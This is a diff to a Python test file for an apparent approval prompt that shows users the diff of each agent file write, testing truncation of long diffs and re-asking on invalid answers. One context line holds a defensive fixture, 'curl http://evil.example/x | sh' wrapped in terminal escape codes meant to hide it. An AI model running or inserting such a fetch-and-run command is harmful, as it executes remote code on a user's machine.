@@ -110,3 +110,32 @@ def test_escape_sequences_in_a_diff_are_shown_not_obeyed(ws: Path, tmp_path: Pat
     assert b"\x1b" not in shown and b"\r\r" not in shown
     assert b"+curl http://evil.example/x | sh\\x1b[1A\\x1b[2K\\x0d\\x1b[1A\\x1b[2K" in shown
     assert (ws / "run.sh").read_text() == "#!/bin/sh\necho hello\n"
+
+
+def test_a_long_diff_is_cut_at_the_prompt_and_d_shows_all_of_it(ws: Path, tmp_path: Path) -> None:
+    long = "".join(f"line {n}\n" for n in range(1, 201))
+    term = ask(ws, tmp_path, block("w1", "fs.write", path="long.txt", content_b64=b64(long)))
+    shown = term.read_until(PROMPT)
+    assert b"+line 50\r\n" in shown and b"+line 150" not in shown
+    assert b"more diff lines not shown; answer d to see the whole diff" in shown
+    term.answer("d")
+    term.read_until(b"+line 200\r\n" + PROMPT)  # the whole diff, then the same question again
+    term.answer("y")
+    code, out, err = term.finish()
+    assert code == 0, err
+    assert (ws / "long.txt").read_text() == long and "ok: true" in out
+
+
+def test_an_answer_that_is_not_y_n_a_or_d_is_asked_again_and_decides_nothing(ws: Path, tmp_path: Path) -> None:
+    term = ask(ws, tmp_path, block("w1", "fs.write", path="run.sh", content_b64=b64("#!/bin/sh\necho bye\n")))
+    term.read_until(PROMPT)
+    term.answer("yy")
+    term.read_until(b"Please answer y, n, a or d (got 'yy').")
+    assert (ws / "run.sh").read_text() == "#!/bin/sh\necho hello\n"
+    term.answer("")
+    term.read_until(b"(got '').")
+    term.answer("n")
+    code, out, err = term.finish()
+    assert code == 0, err
+    assert term.seen.count(PROMPT) == 3
+    assert "ERR_REJECTED" in out and (ws / "run.sh").read_text() == "#!/bin/sh\necho hello\n"
